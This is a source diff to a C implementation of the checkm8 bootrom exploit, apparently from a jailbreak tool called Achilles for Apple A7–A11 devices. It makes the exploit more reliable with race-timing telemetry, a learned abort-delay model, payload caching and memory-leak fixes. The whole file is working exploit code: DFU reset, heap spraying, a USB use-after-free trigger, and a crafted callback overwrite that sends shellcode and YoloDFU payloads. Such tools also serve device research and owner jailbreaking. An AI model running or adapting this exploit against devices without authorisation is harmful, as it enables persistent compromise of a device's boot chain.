@@ -1,6 +1,7 @@
 #include <exploit/exploit.h>
 
 bool bootingPongoOS;
+checkm8_result_t checkm8LastResult;
 char *pwndString = " PWND:[checkm8]";
 
 // Purpose: Trigger a DFU mode reset on the device
@@ -19,56 +20,104 @@ bool checkm8Reset(device_t *device)
     return false;
 }
 
+abort_attempt_t abortAttempts[ABORT_ATTEMPT_LOG_SIZE];
+size_t abortAttemptCount;
+abort_model_t abortModel;
+realtime_state_t realtimeState;
+
+// Purpose: Record the requested and achieved abort delay of a race attempt
+void checkm8RecordAbortAttempt(unsigned requested, uint64_t achieved, bool won)
+{
+    if (abortAttemptCount < ABORT_ATTEMPT_LOG_SIZE) {
+        abortAttempts[abortAttemptCount].requested = requested;
+        abortAttempts[abortAttemptCount].achieved = achieved;
+        abortAttempts[abortAttemptCount].won = won;
+    }
+    abortAttemptCount++;
+}
+
+// Purpose: Log and clear the race attempts recorded during a stage
+void checkm8LogAbortAttempts(const char *stage)
+{
+    int64_t jitter, maxJitter = 0, totalJitter = 0;
+    size_t aborted = 0;
+    for (size_t i = 0; i < MIN(abortAttemptCount, ABORT_ATTEMPT_LOG_SIZE); i++) {
+        LOG(LOG_DEBUG, "%s attempt %zu: requested %.3f ms, achieved %.3f ms%s", stage, i + 1,
+            abortAttempts[i].requested / 1e3, abortAttempts[i].achieved / 1e6, abortAttempts[i].won ? " (won)" : "");
+        if (abortAttempts[i].achieved != 0) {
+            // How late the abort landed, requests that completed before their abort are not counted
+            jitter = (int64_t)abortAttempts[i].achieved - (int64_t)abortAttempts[i].requested * 1000;
+            totalJitter += jitter;
+            maxJitter = jitter > maxJitter ? jitter : maxJitter;
+            aborted++;
+        }
+    }
+    if (aborted != 0) {
+        LOG(LOG_VERBOSE, "%s abort jitter over %zu attempts: mean %.1f us, max %.1f us (real-time mode %s)", stage, aborted,
+            totalJitter / 1e3 / aborted, maxJitter / 1e3, realtimeState.active ? "on" : "off");
+    }
+    if (abortAttemptCount > ABORT_ATTEMPT_LOG_SIZE) {
+        LOG(LOG_DEBUG, "%s made %zu more attempts", stage, abortAttemptCount - ABORT_ATTEMPT_LOG_SIZE);
+    }
+    abortAttemptCount = 0;
+}
+
 // Purpose: Place the device into a stalled state
 bool checkm8Stall(device_t *device)
 {
-    unsigned usbAbortTimeout = 10;
+    unsigned sweepDelay = 10000, usbAbortDelay = sampleAbortDelay(&abortModel, ABORT_STAGE_STALL, sweepDelay);
     transfer_ret_t transferRet;
     usb_handle_t *handle = &device->handle;
-    while (sendUSBControlRequestAsyncNoData(handle, 0x80, DFU_ABORT, 0x304, 0xA, 0xC0, usbAbortTimeout, &transferRet)) {
-        if (transferRet.sz < 0xC0
-        && sendUSBControlRequestAsyncNoData(handle, 0x80, 6, 0x304, 0xA, 0x40, 1, &transferRet)
-        && transferRet.sz == 0) {
+    uint64_t achieved;
+    bool won;
+    while (sendUSBControlRequestAsyncNoData(handle, 0x80, DFU_ABORT, 0x304, 0xA, 0xC0, usbAbortDelay, &transferRet)) {
+        achieved = transferRet.abortDelay;
+        won = transferRet.sz < 0xC0
+        && sendUSBControlRequestAsyncNoData(handle, 0x80, 6, 0x304, 0xA, 0x40, 1000, &transferRet)
+        && transferRet.sz == 0;
+        checkm8RecordAbortAttempt(usbAbortDelay, achieved, won);
+        recordAbortResult(&abortModel, ABORT_STAGE_STALL, usbAbortDelay, won);
+        if (won) {
+            checkm8LogAbortAttempts("Stall");
             return true;
         }
-        usbAbortTimeout = (usbAbortTimeout + 1) % 10;
+        sweepDelay = (sweepDelay + 1000) % 10000;
+        usbAbortDelay = sampleAbortDelay(&abortModel, ABORT_STAGE_STALL, sweepDelay);
     }
+    checkm8LogAbortAttempts("Stall");
     return false;
 }
 
 // Purpose: Send a packet that will leak a zero-length packet
 bool checkm8Leak(device_t *device)
 {
-    transfer_ret_t *transferRet;
-    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0xC0, transferRet);
+    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0xC0, NULL);
 }
 
 // Purpose: Send a regular packet that will not leak a zero-length packet
 bool checkm8NoLeak(device_t *device)
 {
-    transfer_ret_t *transferRet;
-    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0xC1, transferRet);
+    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0xC1, NULL);
 }
 
-// Purpose: Stall the device-to-host endpoint
+// Purpose: Stall the device-to-host endpoint, failing if the device refused to
 bool checkm8USBRequestStall(device_t *device)
 {
-    transfer_ret_t *transferRet;
-    return sendUSBControlRequestNoData(&device->handle, 0x2, DFU_GETSTATUS, 0x0, 0x80, 0x0, transferRet);
+    transfer_ret_t transferRet;
+    return sendUSBControlRequestNoData(&device->handle, 0x2, DFU_GETSTATUS, 0x0, 0x80, 0x0, &transferRet)
+    && transferRet.ret != USB_TRANSFER_STALL;
 }
 
 // Purpose: Send a packet that will leak a zero-length packet
 bool checkm8USBRequestLeak(device_t *device)
 {
-    transfer_ret_t *transferRet;
-    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0x40, transferRet);
+    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0x40, NULL);
 }
 
 // Purpose: Send a regular packet that will not leak a zero-length packet
 bool checkm8USBRequestNoLeak(device_t *device)
 {
-    transfer_ret_t *transferRet;
-    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0x41, transferRet);
+    return sendUSBControlRequestNoData(&device->handle, 0x80, DFU_ABORT, 0x304, 0x40A, 0x41, NULL);
 }
 
 // Purpose: Spray the heap in order to craft a hole for the IO buffer allocation
@@ -76,7 +125,8 @@ bool checkm8HeapSpray(device_t *device)
 {
     if (config_large_leak == 0) {
         if (cpid == 0x7000 || cpid == 0x7001 || cpid == 0x7002 || cpid == 0x8000 || cpid == 0x8003) {
-            while (!checkm8USBRequestStall(device) || !checkm8USBRequestLeak(device) || !checkm8NoLeak(device)) {}
+            // These only fail when the request can't be sent, so retrying would spin forever once the device is gone
+            if (!checkm8USBRequestStall(device) || !checkm8USBRequestLeak(device) || !checkm8NoLeak(device)) { return false; }
         } else {
             // Stall the endpoint and leak a ZLP
             if (!checkm8Stall(device)) { return false; }
@@ -113,21 +163,31 @@ bool checkm8HeapSpray(device_t *device)
 // Purpose: Trigger the use-after-free vulnerability
 bool checkm8TriggerUaF(device_t *device)
 {
-    unsigned usb_abort_timeout = USB_TIMEOUT; // PR for T8011: 0.93 seconds starting on 10s timeout
+    unsigned sweep_delay = USB_TIMEOUT * 1000; // PR for T8011: 0.93 seconds starting on 10s timeout
 	transfer_ret_t transfer_ret;
+	uint64_t achieved;
+	unsigned usb_abort_delay = sampleAbortDelay(&abortModel, ABORT_STAGE_TRIGGER, sweep_delay);
 
-	while(sendUSBControlRequestAsyncNoData(&device->handle, 0x21, DFU_DNLOAD, 0, 0, DFU_MAX_TRANSFER_SIZE, usb_abort_timeout, &transfer_ret)) {
+	while(sendUSBControlRequestAsyncNoData(&device->handle, 0x21, DFU_DNLOAD, 0, 0, DFU_MAX_TRANSFER_SIZE, usb_abort_delay, &transfer_ret)) {
+		achieved = transfer_ret.abortDelay;
 		if(transfer_ret.sz < config_overwrite_pad 
         && sendUSBControlRequestNoData(&device->handle, 0, 0, 0, 0, config_overwrite_pad - transfer_ret.sz, &transfer_ret) 
         && transfer_ret.ret == USB_TRANSFER_STALL) {
+			checkm8RecordAbortAttempt(usb_abort_delay, achieved, true);
+			recordAbortResult(&abortModel, ABORT_STAGE_TRIGGER, usb_abort_delay, true);
+			checkm8LogAbortAttempts("UaF trigger");
 			sendUSBControlRequestNoData(&device->handle, 0x21, DFU_CLRSTATUS, 0, 0, 0, NULL);
 			return true;
 		}
+		checkm8RecordAbortAttempt(usb_abort_delay, achieved, false);
+		recordAbortResult(&abortModel, ABORT_STAGE_TRIGGER, usb_abort_delay, false);
 		if(!sendUSBControlRequestNoData(&device->handle, 0x21, DFU_DNLOAD, 0, 0, EP0_MAX_PACKET_SIZE, NULL)) {
 			break;
 		}
-		usb_abort_timeout = (usb_abort_timeout + 1) % 10;
+		sweep_delay = (sweep_delay + 1000) % 10000;
+		usb_abort_delay = sampleAbortDelay(&abortModel, ABORT_STAGE_TRIGGER, sweep_delay);
 	}
+	checkm8LogAbortAttempts("UaF trigger");
     
 	return false;
 }
@@ -208,6 +268,7 @@ size_t prepareGasterPayload(uint8_t **buffer) {
 			payload_handle_checkm8_request = NULL;
 			payload_handle_checkm8_request_size = 0;
 			data = NULL;
+            free(payload);
             return 0;
 		}
         if (data != NULL) {
@@ -285,9 +346,13 @@ size_t prepareGasterPayload(uint8_t **buffer) {
 				memcpy(data + data_sz, &handle_checkm8_request, sizeof(handle_checkm8_request));
 				data_sz += sizeof(handle_checkm8_request);
             }
+            free(payload);
+            free(payload_handle_checkm8_request);
             *buffer = data;
             return data_sz;
         } else {
+            free(payload);
+            free(payload_handle_checkm8_request);
             return 0;
         }
     }
@@ -307,16 +372,126 @@ size_t prepareGasterPayload(uint8_t **buffer) {
 
 // // // // // // //
 
-// Purpose: Send the payload and overwrite to the device and trigger shellcode execution
-bool checkm8SendPayload(device_t *device)
+static checkm8_payload_t payloadCache[CHECKM8_PAYLOAD_CACHE_SIZE];
+static size_t payloadCacheCount;
+
+// Purpose: Select the YoloDFU payload embedded for the CPID, which is sent as it is
+static bool selectYoloPayload(const uint8_t **payload, size_t *size)
+{
+    switch (cpid)
+    {
+    case 0x8000:
+        *payload = yolo_s8000_bin;
+        *size = yolo_s8000_bin_len;
+        break;
+    case 0x8001:
+        *payload = yolo_s8001_bin;
+        *size = yolo_s8001_bin_len;
+        break;
+    case 0x8003:
+        *payload = yolo_s8003_bin;
+        *size = yolo_s8003_bin_len;
+        break;
+    case 0x7000:
+        *payload = yolo_t7000_bin;
+        *size = yolo_t7000_bin_len;
+        break;
+    case 0x7001:
+        *payload = yolo_t7001_bin;
+        *size = yolo_t7001_bin_len;
+        break;
+    case 0x8010:
+        *payload = yolo_t8010_bin;
+        *size = yolo_t8010_bin_len;
+        break;
+    case 0x8011:
+        *payload = yolo_t8011_bin;
+        *size = yolo_t8011_bin_len;
+        break;
+    case 0x8015:
+        *payload = yolo_t8015_bin;
+        *size = yolo_t8015_bin_len;
+        break;
+    default:
+        return false;
+    }
+    return true;
+}
+
+const checkm8_payload_t *getCheckm8Payload(bool pongo)
 {
+    checkm8_payload_t *entry;
     uint8_t *payload;
-    size_t payloadSize;
+    size_t i;
+
+    for (i = 0; i < payloadCacheCount; i++) {
+        if (payloadCache[i].cpid == cpid && payloadCache[i].pongo == pongo) {
+            return &payloadCache[i];
+        }
+    }
+    if (payloadCacheCount == CHECKM8_PAYLOAD_CACHE_SIZE) {
+        LOG(LOG_ERROR, "Too many payloads prepared");
+        return NULL;
+    }
+    entry = &payloadCache[payloadCacheCount];
+    memset(entry, '\0', sizeof(checkm8_payload_t));
+    entry->cpid = cpid;
+    entry->pongo = pongo;
+
+    // Prepare the overwrite
+    if (pongo) {
+        LOG(LOG_DEBUG, "Preparing overwrite for YoloDFU mode");
+        entry->overwrite.callback.next = insecure_memory_base;
+        entry->overwriteSize = sizeof(dfu_callback_t); // It will always be 0x30
+    }
+    else if (cpid == 0x8960 || cpid == 0x7001 || cpid == 0x7000 || cpid == 0x8003 || cpid == 0x8000) {
+        entry->overwrite.callback.callback = insecure_memory_base;
+        entry->overwriteSize = sizeof(checkm8_overwrite_t);
+    }
+    else if (cpid == 0x8001 || cpid == 0x8010 || cpid == 0x8011 || cpid == 0x8015 || cpid == 0x8012) {
+        entry->overwrite.callback.callback = nop_gadget;
+        entry->overwrite.callback.next = insecure_memory_base;
+        entry->overwrite.heap_pad_0 = 0xF7F6F5F4F3F2F1F0;
+        entry->overwrite.heap_pad_1 = 0xFFFEFDFCFBFAF9F8;
+        entry->overwriteSize = sizeof(checkm8_overwrite_t);
+    }
+    else {
+        LOG(LOG_ERROR, "CPID not supported!");
+        return NULL;
+    }
+
+    // Prepare the payload
+    if (pongo) {
+        LOG(LOG_DEBUG, "Selecting YoloDFU payload for CPID 0x%X", cpid);
+        if (!selectYoloPayload(&entry->payload, &entry->payloadSize)) {
+            LOG(LOG_ERROR, "CPID not supported!");
+            return NULL;
+        }
+    } else {
+        // Never freed, every later device with this CPID is sent the same bytes
+        entry->payloadSize = prepareGasterPayload(&payload);
+        if (entry->payloadSize == 0) {
+            LOG(LOG_ERROR, "Failed to prepare payload");
+            return NULL;
+        }
+        entry->payload = payload;
+    }
+    payloadCacheCount++;
+    return entry;
+}
+
+// Purpose: Send the payload and overwrite, prepared by checkm8() before the exploit started, and trigger shellcode execution
+bool checkm8SendPayload(device_t *device)
+{
+    const checkm8_payload_t *prepared = getCheckm8Payload(bootingPongoOS);
+    const uint8_t *payload = prepared != NULL ? prepared->payload : NULL;
+    size_t payloadSize = prepared != NULL ? prepared->payloadSize : 0;
 
-    uint64_t *overwrite;
-    size_t overwriteSize;
+    const void *overwrite = prepared != NULL ? &prepared->overwrite : NULL;
+    size_t overwriteSize = prepared != NULL ? prepared->overwriteSize : 0;
 
     #ifdef DEBUG
+    uint8_t *customOverwrite = NULL, *customPayload = NULL;
     if (getArgumentByName("Custom overwrite")->set) {
         char *overwritePath = getArgumentByName("Custom overwrite")->stringVal;
         FILE *overwriteFile = fopen(overwritePath, "rb");
@@ -327,50 +502,12 @@ bool checkm8SendPayload(device_t *device)
         fseek(overwriteFile, 0, SEEK_END);
         overwriteSize = ftell(overwriteFile);
         fseek(overwriteFile, 0, SEEK_SET);
-        overwrite = malloc(overwriteSize);
-        fread(overwrite, 1, overwriteSize, overwriteFile);
+        customOverwrite = malloc(overwriteSize);
+        fread(customOverwrite, 1, overwriteSize, overwriteFile);
         fclose(overwriteFile);
+        overwrite = customOverwrite;
         LOG(LOG_INFO, "Prepared custom overwrite");
-    } else {
-    #endif
-
-    // Prepare the overwrite
-    if (bootingPongoOS) {
-        LOG(LOG_DEBUG, "Preparing overwrite for YoloDFU mode");
-        void *blank[DFU_MAX_TRANSFER_SIZE];
-        memset(&blank, '\0', DFU_MAX_TRANSFER_SIZE);
-        overwrite = (uint64_t *)blank;
-        overwrite[5] = insecure_memory_base;
-        overwriteSize = 0x30; // It will always be 0x30
-    }
-    else {
-        if(cpid == 0x8960 || cpid == 0x7001 || cpid == 0x7000 || cpid == 0x8003 || cpid == 0x8000) {
-            checkm8_overwrite_t checkm8_overwrite;
-            memset(&checkm8_overwrite, '\0', sizeof(checkm8_overwrite_t));
-            checkm8_overwrite.callback.callback = insecure_memory_base;
-            overwrite = (uint64_t *)&checkm8_overwrite;
-            overwriteSize = sizeof(checkm8_overwrite);
-        }
-        else if (cpid == 0x8001 || cpid == 0x8010 || cpid == 0x8011 || cpid == 0x8015 || cpid == 0x8012) {
-            checkm8_overwrite_t checkm8_overwrite;
-            memset(&checkm8_overwrite, '\0', sizeof(checkm8_overwrite_t));
-            checkm8_overwrite.callback.callback = nop_gadget;
-            checkm8_overwrite.callback.next = insecure_memory_base;
-            checkm8_overwrite.heap_pad_0 = 0xF7F6F5F4F3F2F1F0;
-			checkm8_overwrite.heap_pad_1 = 0xFFFEFDFCFBFAF9F8;
-            overwrite = (uint64_t *)&checkm8_overwrite;
-            overwriteSize = sizeof(checkm8_overwrite);
-        }
-        else {
-            LOG(LOG_ERROR, "CPID not supported!");
-        }
     }
-
-    #ifdef DEBUG
-    }
-    #endif
-
-    #ifdef DEBUG
     if (getArgumentByName("Custom payload")->set) {
         char *payloadPath = getArgumentByName("Custom payload")->stringVal;
         FILE *payloadFile = fopen(payloadPath, "rb");
@@ -381,73 +518,11 @@ bool checkm8SendPayload(device_t *device)
         fseek(payloadFile, 0, SEEK_END);
         payloadSize = ftell(payloadFile);
         fseek(payloadFile, 0, SEEK_SET);
-        payload = malloc(payloadSize);
-        fread(payload, 1, payloadSize, payloadFile);
+        customPayload = malloc(payloadSize);
+        fread(customPayload, 1, payloadSize, payloadFile);
         fclose(payloadFile);
+        payload = customPayload;
         LOG(LOG_INFO, "Prepared custom payload");
-    } else {
-    #endif
-
-    // Prepare the payload
-    if (bootingPongoOS) {
-        LOG(LOG_DEBUG, "Selecting YoloDFU payload for CPID 0x%X", cpid);
-        switch (cpid)
-        {
-        case 0x8000:
-            payload = malloc(yolo_s8000_bin_len);
-            memcpy(payload, yolo_s8000_bin, yolo_s8000_bin_len);
-            payloadSize = yolo_s8000_bin_len;
-            break;
-        case 0x8001:
-            payload = malloc(yolo_s8001_bin_len);
-            memcpy(payload, yolo_s8001_bin, yolo_s8001_bin_len);
-            payloadSize = yolo_s8001_bin_len;
-            break;
-        case 0x8003:
-            payload = malloc(yolo_s8003_bin_len);
-            memcpy(payload, yolo_s8003_bin, yolo_s8003_bin_len);
-            payloadSize = yolo_s8003_bin_len;
-            break;
-        case 0x7000:
-            payload = malloc(yolo_t7000_bin_len);
-            memcpy(payload, yolo_t7000_bin, yolo_t7000_bin_len);
-            payloadSize = yolo_t7000_bin_len;
-            break;
-        case 0x7001:
-            payload = malloc(yolo_t7001_bin_len);
-            memcpy(payload, yolo_t7001_bin, yolo_t7001_bin_len);
-            payloadSize = yolo_t7001_bin_len;
-            break;
-        case 0x8010:
-            payload = malloc(yolo_t8010_bin_len);
-            memcpy(payload, yolo_t8010_bin, yolo_t8010_bin_len);
-            payloadSize = yolo_t8010_bin_len;
-            break;
-        case 0x8011:
-            payload = malloc(yolo_t8011_bin_len);
-            memcpy(payload, yolo_t8011_bin, yolo_t8011_bin_len);
-            payloadSize = yolo_t8011_bin_len;
-            break;
-        case 0x8015:
-            payload = malloc(yolo_t8015_bin_len);
-            memcpy(payload, yolo_t8015_bin, yolo_t8015_bin_len);
-            payloadSize = yolo_t8015_bin_len;
-            break;
-        default:
-            payload = NULL;
-            payloadSize = 0;
-            LOG(LOG_ERROR, "CPID not supported!");
-            break;
-        }
-    } else {
-        payloadSize = prepareGasterPayload(&payload);
-        if (payloadSize == 0) {
-            LOG(LOG_ERROR, "Failed to prepare payload");
-            return false;
-        }
-    }
-    
-    #ifdef DEBUG
     }
     #endif
 
@@ -499,7 +574,7 @@ bool checkm8SendPayload(device_t *device)
 
     LOG(LOG_DEBUG, "Sending overwrite of size 0x%2X", overwriteSize);
 
-    if (sendUSBControlRequest(&device->handle, 0, 0, 0, 0, overwrite, overwriteSize, &transferRet)
+    if (sendUSBControlRequest(&device->handle, 0, 0, 0, 0, (void *)overwrite, overwriteSize, &transferRet)
     && transferRet.ret == USB_TRANSFER_STALL)
     {
         // Need to figure out why gaster needs this but PongoOS doesn't
@@ -517,7 +592,7 @@ bool checkm8SendPayload(device_t *device)
         for(i = 0; ret && i < payloadSize; i += packetSize) {
             packetSize = MIN(payloadSize - i, DFU_MAX_TRANSFER_SIZE);
             LOG(LOG_DEBUG, "Sending payload chunk of size 0x%X", packetSize);
-            ret = sendUSBControlRequest(&device->handle, 0x21, DFU_DNLOAD, 0, 0, &payload[i], packetSize, NULL);
+            ret = sendUSBControlRequest(&device->handle, 0x21, DFU_DNLOAD, 0, 0, (void *)&payload[i], packetSize, NULL);
         }
         if (ret) {
             if (cpid != 0x8011) {
@@ -538,11 +613,58 @@ bool checkm8SendPayload(device_t *device)
         LOG(LOG_ERROR, "Failed to send overwrite");
         return false;
     }
-    if (payload != NULL) { free(payload); }
+    #ifdef DEBUG
+    free(customOverwrite);
+    free(customPayload);
+    #endif
 
     return true;
 }
 
+// Purpose: Wait for the device to drop off the bus and re-enumerate in YoloDFU mode
+bool checkm8AwaitDownloadMode(device_t *device)
+{
+    struct timespec start, now;
+    unsigned elapsed = 0;
+    char *serial;
+
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    if (!waitUSBHotplugEvent(device->handle.vid, device->handle.pid, USB_DEVICE_LEFT, YOLO_REENUMERATION_TIMEOUT, NULL)) {
+        LOG(LOG_DEBUG, "Device did not disconnect after sending the YoloDFU payload");
+        return false;
+    }
+    while (elapsed < YOLO_REENUMERATION_TIMEOUT
+    && waitUSBHotplugEvent(device->handle.vid, device->handle.pid, USB_DEVICE_ARRIVED, YOLO_REENUMERATION_TIMEOUT - elapsed, NULL)) {
+        // Opening can take a while if the device drops off again, so it shares the same deadline
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        elapsed = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
+        if (elapsed >= YOLO_REENUMERATION_TIMEOUT
+        || !waitUSBHandleUntil(&device->handle, NULL, NULL, YOLO_REENUMERATION_TIMEOUT - elapsed, NULL)) {
+            break;
+        }
+        serial = getDeviceSerialNumber(&device->handle);
+        closeUSBHandle(&device->handle);
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        elapsed = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
+        if (serial != NULL && isInDownloadMode(serial)) {
+            LOG(LOG_VERBOSE, "Device re-enumerated in YoloDFU mode after %.2f seconds", elapsed / 1e3);
+            free(serial);
+            return true;
+        }
+        free(serial);
+
+        // Not in YoloDFU yet, wait for the device to drop off again
+        if (elapsed >= YOLO_REENUMERATION_TIMEOUT
+        || !waitUSBHotplugEvent(device->handle.vid, device->handle.pid, USB_DEVICE_LEFT, YOLO_REENUMERATION_TIMEOUT - elapsed, NULL)) {
+            break;
+        }
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        elapsed = (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000;
+    }
+    LOG(LOG_DEBUG, "Device did not re-enumerate in YoloDFU mode within %.2f seconds", YOLO_REENUMERATION_TIMEOUT / 1e3);
+    return false;
+}
+
 // Purpose: Check if the device has been successfully exploited
 int checkm8Done(device_t *device)
 {
@@ -575,6 +697,50 @@ int checkm8PrepareDevice(device_t *device) {
     return 0;
 }
 
+// Purpose: Open the device for a session unless it is still connected, reading and parsing its serial number once per connection
+bool checkm8SessionConnect(checkm8_session_t *session)
+{
+    usb_handle_t *handle = &session->device->handle;
+    if (session->connected) {
+        return true;
+    }
+    int span = beginTimelineSpan("usb", "Open device");
+    while (waitUSBHandle(handle, NULL, NULL)) {
+        free(session->serial);
+        session->serial = getDeviceSerialNumber(handle);
+        if (checkm8CheckSerialNumber(handle, session->serial, &session->pwned)) {
+            session->connected = true;
+            session->connections++;
+            endTimelineSpan(span);
+            return true;
+        }
+        closeUSBHandle(handle);
+        sleep_ms(USB_TIMEOUT);
+    }
+    // waitUSBHandle() leaves nothing open when it fails, and a rejected serial number closed the handle above
+    endTimelineSpan(span);
+    return false;
+}
+
+// Purpose: Close the session's handle, so the next stage waits for the device to come back
+void checkm8SessionDisconnect(checkm8_session_t *session)
+{
+    if (session->connected) {
+        closeUSBHandle(&session->device->handle);
+        session->connected = false;
+    }
+}
+
+// Purpose: Reset the device between stages, only dropping the connection if the device re-enumerated
+void checkm8SessionReset(checkm8_session_t *session)
+{
+    if (resetUSBHandle(&session->device->handle)) {
+        LOG(LOG_DEBUG, "Device kept its connection across the reset");
+        return;
+    }
+    checkm8SessionDisconnect(session);
+}
+
 char *stageToString(int stage) {
     switch (stage) {
         case STAGE_RESET:
@@ -596,28 +762,46 @@ char *stageToString(int stage) {
     }
 }
 
-int checkm8()
+// Purpose: Exploit the device and run the stages after it, checkm8() writes the timeline however this returns
+static int checkm8Run(void)
 {
     device_t device;
+    memset(&checkm8LastResult, 0, sizeof(checkm8_result_t));
+    checkm8LastResult.failedStage = STAGE_DONE;
     bootingPongoOS = getArgumentByName("PongoOS")->boolVal || getArgumentByName("Jailbreak")->boolVal;
+    usbAbortSpin = getArgumentByName("Precise abort")->boolVal ? USB_ABORT_SPIN : 0;
     initUSBHandle(&device.handle, 0x5ac, 0x1227);
     if (checkm8PrepareDevice(&device) != 0)
     {
         LOG(LOG_ERROR, "Failed to prepare device");
         return -1;
     }
-    bool pwned;
-    waitUSBHandle(&device.handle, &checkm8CheckUSBDevice, &pwned); // So we can check CPID
-    char *serial = getDeviceSerialNumber(&device.handle);
-    closeUSBHandle(&device.handle);
+    // The handle stays open from here on, and is only reopened when the device re-enumerates
+    checkm8_session_t session = { &device, STAGE_RESET, false, false, NULL, 0 };
+    if (!checkm8SessionConnect(&session)) { // So we can check CPID
+        LOG(LOG_ERROR, "Failed to open the device");
+        return -1;
+    }
+    char *serial = session.serial;
+    if (loadAbortModel(&abortModel, cpid, getUSBHostControllerID(&device.handle))) {
+        LOG(LOG_DEBUG, "Loaded learned abort delays for CPID 0x%X", cpid);
+    }
     if (!isSupported(cpid)) {
         LOG(LOG_ERROR, "This device is not supported by Achilles");
         LOG(LOG_ERROR, "Please keep in mind that Achilles supports A7-A11 only");
+        checkm8SessionDisconnect(&session);
         return -1;
     }
     if (bootingPongoOS && !(cpid == 0x8000 || cpid == 0x8001 || cpid == 0x8003 || cpid == 0x7000
     || cpid == 0x7001 || cpid == 0x8010 || cpid == 0x8011 || cpid == 0x8015)) {
         LOG(LOG_ERROR, "PongoOS is not supported on this device, CPID: 0x%X", cpid);
+        checkm8SessionDisconnect(&session);
+        return -1;
+    }
+    // Build the payload and overwrite now, so that checkm8SendPayload() only has to send them
+    // while the device is in its fragile state after the UaF
+    if (!isInDownloadMode(serial) && !isInPongoOS(serial) && getCheckm8Payload(bootingPongoOS) == NULL) {
+        checkm8SessionDisconnect(&session);
         return -1;
     }
 
@@ -631,57 +815,72 @@ int checkm8()
 
     LOG(LOG_VERBOSE, bootingPongoOS ? "Exploiting with checkm8 and booting PongoOS" : "Exploiting with checkm8");
 
-    int stage = STAGE_RESET;
     int stageForLogging = STAGE_RESET;
     char *finalSerial = NULL;
 
     if (isInDownloadMode(serial)) {
-        stage = STAGE_PONGO;
+        session.stage = STAGE_PONGO;
     } else if (isInPongoOS(serial) && getArgumentByName("Jailbreak")->set) {
         LOG(LOG_SUCCESS, "Found device in PongoOS");
-        stage = STAGE_JAILBREAK;
+        session.stage = STAGE_JAILBREAK;
+    }
+
+    if (getArgumentByName("Real-time")->boolVal && session.stage < STAGE_PATCH) {
+        if (enterRealtimeMode(&realtimeState)) {
+            LOG(LOG_VERBOSE, "Running exploit with real-time scheduling");
+        } else {
+            LOG(LOG_INFO, "Real-time scheduling is not permitted, try running as root");
+        }
     }
 
     LOG(LOG_INFO, "Starting exploit");
+    size_t allocations = atomic_load(&usbRequestAllocations);
     clock_gettime(CLOCK_MONOTONIC, &start);
-    while (stage != STAGE_DONE && waitUSBHandle(&device.handle, &checkm8CheckUSBDevice, &pwned)) {
-        if (!pwned) {
-            if (stage == STAGE_RESET) {
+    int runSpan = beginTimelineSpan("exploit", "checkm8"), span;
+    while (session.stage != STAGE_DONE && checkm8SessionConnect(&session)) {
+        if (!session.pwned) {
+            span = beginTimelineSpan("exploit", "%s", stageToString(session.stage));
+            if (session.stage == STAGE_RESET) {
                 LOG(LOG_VERBOSE, "Resetting device");
                 ret = checkm8Reset(&device);
-                stage = STAGE_HEAP_SPRAY;
+                session.stage = STAGE_HEAP_SPRAY;
                 stageForLogging = STAGE_RESET;
             }
-            else if (stage == STAGE_HEAP_SPRAY) {
+            else if (session.stage == STAGE_HEAP_SPRAY) {
                 LOG(LOG_INFO, "Spraying the heap");
                 ret = checkm8HeapSpray(&device);
-                stage = STAGE_TRIGGER;
+                session.stage = STAGE_TRIGGER;
                 stageForLogging = STAGE_HEAP_SPRAY;
             }
-            else if (stage == STAGE_TRIGGER) {
+            else if (session.stage == STAGE_TRIGGER) {
                 LOG(LOG_INFO, "Triggering UaF");
                 ret = checkm8TriggerUaF(&device);
-                stage = STAGE_PATCH;
+                session.stage = STAGE_PATCH;
                 stageForLogging = STAGE_TRIGGER;
             }
-            else if (stage == STAGE_PATCH) {
+            else if (session.stage == STAGE_PATCH) {
                 LOG(LOG_INFO, bootingPongoOS ? "Sending YoloDFU payload" : "Patching");
                 ret = checkm8SendPayload(&device);
+                exitRealtimeMode(&realtimeState); // The races are over, don't hog a core while waiting
+                stageForLogging = STAGE_PATCH;
                 if (ret) {
-                    stageForLogging = STAGE_PATCH;
-                    closeUSBHandle(&device.handle);
-                    if (bootingPongoOS) {
-                        sleep(7);
+                    int reenumerationSpan = beginTimelineSpan("exploit", "Re-enumeration");
+                    checkm8SessionDisconnect(&session); // The payload makes the device re-enumerate
+                    if (bootingPongoOS && !checkm8AwaitDownloadMode(&device)) {
                         LOG(LOG_INFO, "You may need to unplug and replug your device");
                     }
-                    waitUSBHandle(&device.handle, &checkm8CheckUSBDevice, &pwned);
-                    finalSerial = getDeviceSerialNumber(&device.handle);
-                    if (isSerialNumberPwned(finalSerial) && !bootingPongoOS) {
-                        pwned = true;
+                    checkm8SessionConnect(&session);
+                    endTimelineSpan(reenumerationSpan);
+                    free(finalSerial);
+                    finalSerial = session.serial != NULL ? strdup(session.serial) : NULL;
+                    // The payload was only sent successfully if the device came back pwned
+                    ret = finalSerial != NULL && isSerialNumberPwned(finalSerial);
+                    if (ret && !bootingPongoOS) {
+                        session.pwned = true;
                     }
-                    stage = (isSerialNumberPwned(finalSerial) && bootingPongoOS) ? STAGE_PONGO : STAGE_DONE;
+                    session.stage = (ret && bootingPongoOS) ? STAGE_PONGO : STAGE_DONE;
                 }
-            } else if (stage == STAGE_PONGO) {
+            } else if (session.stage == STAGE_PONGO) {
                 LOG(LOG_INFO, "Exploit complete, booting PongoOS");
                 ret = bootPongoOS(&device);
                 if (!ret) {
@@ -691,40 +890,66 @@ int checkm8()
